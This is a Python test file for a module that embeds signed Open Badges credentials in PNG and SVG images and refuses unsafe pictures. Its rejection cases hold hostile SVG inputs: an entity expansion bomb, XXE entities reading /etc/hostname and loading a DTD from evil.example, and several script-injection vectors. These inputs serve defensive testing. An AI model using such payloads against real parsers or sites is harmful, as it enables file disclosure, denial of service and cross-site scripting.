"""A badge goes into a picture and comes out unchanged; a picture that could mean two things, or do something, is refused."""

import io
import struct
import zlib

import pytest
from defusedxml import ElementTree
from hypothesis import given, settings
from hypothesis import strategies as st
from openbadgeslib import baking as other_baking
from PIL import Image, PngImagePlugin

from pd_tracks.badges import baking
from pd_tracks.badges.baking import bake, unbake
from pd_tracks.badges.errors import BadgeError

TOKENS = st.from_regex(r"[A-Za-z0-9_-]{1,400}\.[A-Za-z0-9_-]{1,400}\.[A-Za-z0-9_-]{0,400}", fullmatch=True)
WORDS = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Cn"]), max_size=30)
KEYWORD = b"openbadgecredential"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"'
BADGES = 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'


def png(*texts: tuple[str, str], size=(3, 2), colour=(15, 79, 72)) -> bytes:
    info = PngImagePlugin.PngInfo()
    for keyword, text in texts:
        info.add_itxt(keyword, text)
    output = io.BytesIO()
    Image.new("RGB", size, colour).save(output, "PNG", pnginfo=info)
    return output.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def with_chunks(*chunks: bytes) -> bytes:
    """The small picture with these chunks behind its header."""
    whole = png()
    return whole[:33] + b"".join(chunks) + whole[33:]


def plain(text: bytes) -> bytes:
    return chunk(b"iTXt", KEYWORD + b"\0\0\0\0\0" + text)


def svg(inside: str = "", attributes: str = "", before: str = "") -> bytes:
    return f"{before}{SVG} {BADGES} {attributes}>{inside}</svg>".encode()


def reason(picture: bytes) -> str:
    with pytest.raises(BadgeError) as caught:
        unbake(picture)
    return caught.value.code


# Round trips --------------------------------------------------------------------------------------------------------


@settings(deadline=None)
@given(
    TOKENS,
    TOKENS,
    st.tuples(st.integers(1, 9), st.integers(1, 9)),
    st.lists(st.tuples(st.sampled_from(["Title", "openbadges"]), WORDS), max_size=2),
)
def test_any_badge_in_any_png(first, second, size, texts):
    picture = png(*texts, size=size)
    once = bake(picture, first)
    assert unbake(once) == first
    twice = bake(once, second)
    assert unbake(twice) == second
    assert bake(twice, first) == once
    with Image.open(io.BytesIO(twice)) as shown:
        shown.load()
        assert shown.text["openbadgecredential"] == second
        assert shown.text["openbadgecredential"].lang == ""
        assert shown.tobytes() == Image.open(io.BytesIO(picture)).tobytes()
        assert all(shown.text[keyword] == dict(texts)[keyword] for keyword, _text in texts)


@settings(deadline=None)
@given(TOKENS, TOKENS, WORDS)
def test_any_badge_in_any_svg(first, second, title):
    escaped = title.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    once = bake(f"{SVG}><!-- kept --><title>{escaped}</title><g><path d='M0 0'/></g></svg>".encode(), first)
    assert unbake(once) == first
    twice = bake(once, second)
    assert unbake(twice) == second
    root = ElementTree.fromstring(twice)
    assert [element.attrib for element in root.iter("{https://purl.imsglobal.org/ob/v3p0}credential")] == [{"verify": second}]
    assert root.findtext("{http://www.w3.org/2000/svg}title") == title
    assert b"<!-- kept -->" in twice


@settings(deadline=None, max_examples=20)
@given(TOKENS)
def test_another_library_finds_what_we_put_in_and_we_find_what_it_puts_in(token):
    svg_element, keyword = other_baking.SVG_ELEMENT_OB3, other_baking.ITXT_KEYWORD_OB3
    assert other_baking.extract_png(bake(png(), token), keyword=keyword) in {token, token.encode()}
    assert other_baking.extract_svg(bake(svg(), token), element=svg_element) == token
    assert unbake(other_baking.bake_png(png(), token, keyword=keyword)) == token


def test_several_old_ones_become_one():
    picture = with_chunks(plain(b"a.b.c"), plain(b"d.e.f"), chunk(b"tEXt", KEYWORD + b"\0old"))
    assert unbake(bake(picture, "g.h.i")) == "g.h.i"
    assert bake(picture, "g.h.i").count(KEYWORD) == 1
    nested = svg('<openbadges:credential verify="a.b.c"/><g><openbadges:credential verify="a.b.c"/></g>')
    assert bake(nested, "g.h.i").count(b"<openbadges:credential") == 1


def test_what_follows_the_end_of_a_picture_is_not_carried_on():
    assert bake(png() + b"<script>alert(1)</script>", "a.b.c").endswith(b"IEND\xaeB`\x82")


@pytest.mark.parametrize("text", ["", "a.b", '{"id": 1}', "a.b.c\n", "a.b.<c>", "a.b.c" * 100_000])
def test_only_signed_badges_are_put_in(text):
    for picture in (png(), svg()):
        with pytest.raises(BadgeError, match="not_a_badge|too_big"):
            bake(picture, text)


# PNG ----------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("picture", "code"),
    [
        (png(), "credential_missing"),
        (png(("openbadges", "a.b.c")), "credential_missing"),
        (with_chunks(plain(b"a.b.c"), plain(b"a.b.c")), "credential_twice"),
        (with_chunks(plain(b"a.b.c"), chunk(b"tEXt", KEYWORD + b"\0a.b.c")), "credential_twice"),
        (with_chunks(chunk(b"iTXt", KEYWORD + b"\0\1\0\0\0" + zlib.compress(b"a.b.c"))), "credential_compressed"),
        (with_chunks(chunk(b"zTXt", KEYWORD + b"\0\0" + zlib.compress(b"a.b.c"))), "credential_compressed"),
        (with_chunks(chunk(b"tEXt", KEYWORD + b"\0a.b.c")), "malformed"),
        (with_chunks(chunk(b"iTXt", KEYWORD + b"\0")), "malformed"),
        (with_chunks(chunk(b"iTXt", KEYWORD + b"\0\2\0\0\0a.b.c")), "malformed"),
        (with_chunks(chunk(b"iTXt", KEYWORD + b"\0\0\0a.b.c")), "malformed"),
        (with_chunks(plain(b"\xff")), "malformed"),
        (with_chunks(plain(b"a" * 5_000_000)), "too_big"),
        (with_chunks(chunk(b"teXt", b"a" * 10_000_000)), "picture_too_big"),
        (png()[:-1], "not_a_picture"),
        (png()[:40], "not_a_picture"),
        (png()[:8], "not_a_picture"),
        (png()[:8] + png()[33:], "not_a_picture"),
        (png().replace(b"IHDR\0", b"IHDR\1"), "not_a_picture"),
        (with_chunks(b"\xff\xff\xff\xffiTXt"), "not_a_picture"),
        (b"GIF89a", "not_a_picture"),
        (b"\xff\xd8\xff\xe0", "not_a_picture"),
        (b"", "not_a_picture"),
    ],
    ids=range(22),
)
def test_pngs_that_hold_no_one_badge(picture, code):
    assert reason(picture) == code


def test_a_language_on_the_text_is_read_past():
    assert unbake(with_chunks(chunk(b"iTXt", KEYWORD + b"\0\0\0en\0badge\0a.b.c"))) == "a.b.c"


# SVG ----------------------------------------------------------------------------------------------------------------

ONE = '<openbadges:credential verify="a.b.c"/>'
BOMB = "<!DOCTYPE svg [" + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(9)) + "]>"


@pytest.mark.parametrize(
    ("picture", "code"),
    [
        (svg(), "credential_missing"),
        (svg(f"<g>{ONE}</g>"), "credential_missing"),
        (svg("<openbadges:credential/>"), "credential_missing"),
        (svg("<openbadges:credential> </openbadges:credential>"), "credential_missing"),
        (svg(ONE + ONE), "credential_twice"),
        (svg('<openbadges:credential verify="a.b.c">d.e.f</openbadges:credential>'), "credential_twice"),
        (svg(f"<text>&e8;</text>{ONE}", before=BOMB), "svg_entities"),
        (svg(ONE, before='<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/hostname">]>'), "svg_entities"),
        (svg(ONE, before='<!DOCTYPE svg [<!ENTITY % e SYSTEM "https://evil.example/e.dtd"> %e;]>'), "svg_entities"),
        (svg(ONE + "<script>alert(1)</script>"), "svg_active"),
        (svg(ONE + '<x:script xmlns:x="http://www.w3.org/2000/svg"/>'), "svg_active"),
        (svg(ONE + "<g><SCRIPT/></g>"), "svg_active"),
        (svg(ONE + "<foreignObject/>"), "svg_active"),
        (svg(ONE + '<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0"/>'), "svg_active"),
        (svg(ONE + '<a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a>'), "svg_active"),
        (svg(ONE, attributes='onload="alert(1)"'), "svg_active"),
        (svg(ONE, attributes='xml:base="https://evil.example/"'), "svg_active"),
        (svg(ONE + '<a href="javascript:alert(1)"/>'), "svg_active"),
        (svg(ONE + '<a href=" java&#9;script:alert(1)"/>'), "svg_active"),
        (svg(ONE + '<use xmlns:x="http://www.w3.org/1999/xlink" x:href="https://evil.example/#a"/>'), "svg_active"),
        (svg(ONE + '<image href="data:image/svg+xml,%3Csvg/%3E"/>'), "svg_active"),
        (svg(ONE + '<rect fill="url( &quot;https://evil.example/a&quot;)"/>'), "svg_active"),
        (svg(ONE + '<rect style="background:u\\rl(https:a)"/>'), "svg_active"),
        (svg(ONE + "<style>@im<!-- -->port 'a'</style>"), "svg_active"),
        (svg(ONE + "<style><![CDATA[a{background:URL (]]>x)}</style><style>a{b:url(x)}</style>"), "svg_active"),
        (svg(ONE, before='<?xml-stylesheet href="https://evil.example/a.css"?>'), "svg_active"),
        (svg(ONE + "<g/>" * 5_000), "svg_too_complex"),
        (svg(ONE + "<g>" * 100 + "</g>" * 100), "svg_too_complex"),
        (svg(ONE + " " * 1_000_000), "picture_too_big"),
        (svg(f'<openbadges:credential verify="{"a" * 262_145}"/>'), "too_big"),
        (b"<svg/>", "not_a_picture"),
        (b"<html xmlns='http://www.w3.org/1999/xhtml'/>", "not_a_picture"),
        (svg(ONE)[:-3], "not_a_picture"),
        (svg(ONE + "&unknown;"), "not_a_picture"),
        (svg(ONE, before='<?xml version="1.0" encoding="none-such"?>'), "not_a_picture"),
    ],
    ids=range(35),
)
def test_svgs_that_hold_no_one_badge_or_do_something(picture, code):
    assert reason(picture) == code
    if code in {"svg_entities", "svg_active", "svg_too_complex", "picture_too_big", "not_a_picture"}:
        with pytest.raises(BadgeError, match=code):
            bake(picture, "a.b.c")


@pytest.mark.parametrize(
    "inside",
    [
        '<a href="#x"><rect fill="url(#paint)" style="fill: url(\'#paint\')"/></a>',
        '<image href="data:image/png;base64,iVBORw0KGgo="/>',
        "<style>rect { fill: url(#paint) }</style>",
        "<title>A facial expression; see //here</title>",
    ],
)
def test_what_stays_inside_the_picture_is_allowed(inside):
    assert unbake(svg(ONE + inside)) == "a.b.c"


def test_a_long_row_of_blanks_takes_no_time():
    assert unbake(svg(f'{ONE}<rect fill="{"url(" + " " * 400_000}#x)"/>')) == "a.b.c"


def test_the_name_of_our_element_may_be_taken():
    with pytest.raises(BadgeError, match="svg_prefix_taken"):
        bake(f'{SVG} xmlns:openbadges="http://openbadges.org"/>'.encode(), "a.b.c")


@given(st.binary(max_size=300) | st.binary(max_size=300).map(lambda content: baking.baking_png.SIGNATURE + content))
def test_any_bytes_are_refused_with_a_reason(content):
    assert reason(content) in {"not_a_picture", "credential_missing"}
